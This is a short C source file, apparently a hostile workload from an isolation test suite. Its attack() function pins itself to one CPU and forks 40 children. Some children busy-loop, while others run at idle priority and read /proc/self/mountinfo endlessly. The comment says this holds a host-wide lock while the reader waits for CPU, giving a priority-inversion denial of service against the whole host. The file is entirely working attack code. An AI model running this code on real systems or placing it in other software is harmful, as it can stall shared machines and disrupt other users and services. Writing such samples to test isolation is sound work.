#include "hostile.h"

/* Whoever reads this file has a lock of the whole host's meanwhile, and may be granted it while it waits for a CPU. */
static void read_mounts(void) {
    static char text[1 << 16];
    int file = open("/proc/self/mountinfo", O_RDONLY);
    while (read(file, text, sizeof text) > 0) {}
    close(file);
}

int attack(void) {
    struct sched_param least = {0};
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    sched_setaffinity(0, sizeof one, &one);
    for (int child = 0; child < 40; child++) {
        if (fork()) continue;
        while (child % 4) {}
        sched_setscheduler(0, SCHED_IDLE, &least);
        setpriority(PRIO_PROCESS, 0, 19);
        for (;;) read_mounts();
    }
    for (;;) {}
}
